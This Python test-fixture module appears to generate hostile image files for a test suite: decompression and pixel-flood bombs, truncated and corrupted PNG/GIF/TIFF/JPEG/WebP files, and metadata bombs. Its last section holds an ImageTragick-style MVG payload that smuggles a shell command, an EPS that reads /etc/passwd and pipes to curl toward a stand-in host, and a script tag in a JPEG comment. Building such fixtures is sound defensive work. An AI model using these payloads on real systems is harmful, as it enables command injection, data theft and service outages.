"""Pictures that are small on the disk and huge in memory, or broken in ways that broke readers."""

from __future__ import annotations

import struct
import zlib
from collections.abc import Iterator

from tests.hostile.hostile import NAMED, NEAR, Hostile

SIDE = 50_000


def chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">L", len(content)) + kind + content + struct.pack(">L", zlib.crc32(kind + content))


def png(
    width: int, height: int, *more: bytes, rows: int | None = None, bits: int = 1, packed: bytes | None = None
) -> bytes:
    """Grey. `rows`: as many as are really there."""
    head = chunk(b"IHDR", struct.pack(">2L5B", width, height, bits, 0, 0, 0, 0))
    row = bytes(1 + (width * bits + 7) // 8)
    if packed is None:
        machine = zlib.compressobj(9)
        packed = b"".join(machine.compress(row) for _row in range(height if rows is None else rows)) + machine.flush()
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(more) + chunk(b"IDAT", packed) + chunk(b"IEND", b"")


def gif(width: int, height: int, frames: int = 1) -> bytes:
    head = b"GIF89a" + struct.pack("<2H3B", width, height, 0x80, 0, 0) + b"\0\0\0\xff\xff\xff"
    frame = b"," + struct.pack("<4HB", 0, 0, min(width, 2), min(height, 2), 0) + b"\x02\x03\x84\x01\x05\x00"
    return head + frame * frames + b";"


def tiff(width: int, height: int, *, following: int = 0, count: int | None = None) -> bytes:
    entries = ((256, 4, 1, width), (257, 4, 1, height), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1), (273, 4, 1, 8), (278, 4, 1, height), (279, 4, 1, 100))  # fmt: skip
    written = b"".join(struct.pack("<2H2L", *one) for one in entries)
    return (
        b"II*\0"
        + struct.pack("<L", 8)
        + struct.pack("<H", count or len(entries))
        + written
        + struct.pack("<L", following)
    )


def jpeg(width: int, height: int, *segments: bytes) -> bytes:
    """A head that promises; its picture breaks off."""
    table = b"\xff\xdb\0\x43\0" + bytes([1] * 64)
    frame = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, height, width, 1) + b"\1\x11\0"
    codes = b"\xff\xc4\0\x14\0" + bytes([1] + [0] * 15) + b"\0" + b"\xff\xc4\0\x14\x10" + bytes([1] + [0] * 15) + b"\0"
    return (
        b"\xff\xd8"
        + b"".join(segments)
        + table
        + frame
        + codes
        + b"\xff\xda\0\x08\1\1\0\0\x3f\0"
        + bytes(64)
        + b"\xff\xd9"
    )


def segment(marker: int, content: bytes) -> bytes:
    return bytes([0xFF, marker]) + struct.pack(">H", len(content) + 2) + content


def webp(width: int, height: int) -> bytes:
    stream = b"\x2f" + struct.pack("<L", (width - 1) | ((height - 1) << 14)) + bytes(16)
    body = b"WEBPVP8L" + struct.pack("<L", len(stream)) + stream + (b"\0" if len(stream) % 2 else b"")
    return b"RIFF" + struct.pack("<L", len(body)) + body


def files() -> Iterator[Hostile]:
    yield from _floods()
    yield from _broken()
    yield from _heavy()
    yield from _odd()


def _floods() -> Iterator[Hostile]:
    large = ("too_large",)
    yield Hostile("flood-promised.png", png(SIDE, SIDE, rows=10), "scan", large)
    yield Hostile("flood-real.png", png(20_000, 15_000), "scan", large)
    yield Hostile("flood-sixteen-bits.png", png(30_000, 30_000, rows=1, bits=16), "photo", large)
    yield Hostile("flood-just-below.png", png(14_000, 14_000), "photo")
    yield Hostile("flood.gif", gif(65_535, 65_535), "photo")
    yield Hostile("flood-of-frames.gif", gif(2_000, 2_000, 12_000), "photo", large)
    yield Hostile("flood.tif", tiff(SIDE, SIDE), "scan", large)
    yield Hostile("flood.jpg", jpeg(65_500, 65_500), "scan", large)
    yield Hostile("flood.webp", webp(16_383, 16_383), "photo", large)
    drawing = (
        '<svg xmlns="http://www.w3.org/2000/svg" width="1000000" height="1000000"><rect width="1" height="1"/></svg>'
    )
    yield Hostile("flood.svg", drawing.encode(), "photo", large)
    yield Hostile("flood.bmp", b"BM" + struct.pack("<3L", 200, 0, 54) + struct.pack("<Lii2H6L", 40, 99_999, 99_999, 1, 24, 0, 0, 0, 0, 0, 0) + bytes(146), "photo")  # fmt: skip
    yield Hostile("flood.ppm", b"P6 100000 100000 255\n" + bytes(500), "photo")


def _broken() -> Iterator[Hostile]:
    whole = png(400, 400)
    yield Hostile("truncated.png", whole[:-30], "scan")
    yield Hostile("no-size.png", png(0, 0, packed=zlib.compress(b"")), "scan")
    yield Hostile("packed-bomb.png", png(10, 10, packed=zlib.compress(bytes(32 << 20), 9)), "scan")
    yield Hostile("damaged.png", whole[:40] + b"\xff" * 20 + whole[60:], "scan")
    yield Hostile("truncated.gif", gif(200, 200)[:20], "photo")
    yield Hostile("truncated.jpg", jpeg(200, 200)[:150], "scan")
    yield Hostile("pages-in-a-circle.tif", tiff(10, 10, following=8), "scan")
    yield Hostile("sixty-thousand-tags.tif", tiff(10, 10, count=60_000), "scan")
    yield Hostile("truncated.webp", webp(100, 100)[:24], "photo")
    yield Hostile("hollow.heic", b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + bytes(60), "photo")
    yield Hostile("hollow.avif", b"\0\0\0\x18ftypavif\0\0\0\0mif1avif" + bytes(60), "photo")


def _heavy() -> Iterator[Hostile]:
    text = chunk(b"zTXt", b"Comment\0\0" + zlib.compress(bytes(48 << 20), 9))
    profile = chunk(b"iCCP", b"p\0\0" + zlib.compress(bytes(32 << 20), 9))
    yield Hostile("metadata-bomb.png", png(20, 20, text), "photo")
    yield Hostile("profile-bomb.png", png(20, 20, profile), "photo")
    yield Hostile("thousands-of-chunks.png", png(20, 20, chunk(b"tEXt", b"a\0b") * 60_000), "photo")
    exif = segment(0xE1, b"Exif\0\0II*\0" + struct.pack("<L", 8) + struct.pack("<H", 65_535) + bytes(60_000))
    yield Hostile("huge-exif.jpg", jpeg(16, 16, *[exif] * 40), "photo")
    scans = b"\xff\xda\0\x08\1\1\0\0\x3f\0" + bytes(8)
    yield Hostile("thousands-of-scans.jpg", jpeg(3000, 3000)[:-2] + scans * 20_000 + b"\xff\xd9", "scan")
    yield Hostile("title-with-script.jpg", jpeg(16, 16, segment(0xFE, b"<script>alert(1)</script>")), "photo")


def _odd() -> Iterator[Hostile]:
    tragic = (
        f"push graphic-context\nviewbox 0 0 640 480\nfill 'url({NEAR}/mvg\"|touch \"/var/tmp/x)'\npop graphic-context\n"
    )
    yield Hostile("tragic.mvg", tragic.encode(), "photo")
    yield Hostile("tragic.jpg", tragic.encode(), "photo")
    script = f"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(/etc/passwd)(r)file\n(%pipe%curl {NAMED})(w)file\n"
    yield Hostile("script.eps", script.encode(), "photo")
    yield Hostile(
        "header.psd", b"8BPS\0\1" + bytes(6) + struct.pack(">HLLHH", 56, 300_000, 300_000, 32, 3) + bytes(40), "photo"
    )
    yield Hostile("icon.ico", b"\0\0\1\0\1\0\0\0\0\0\1\0\x20\0\xff\xff\xff\x7f\x16\0\0\0" + bytes(30), "photo")
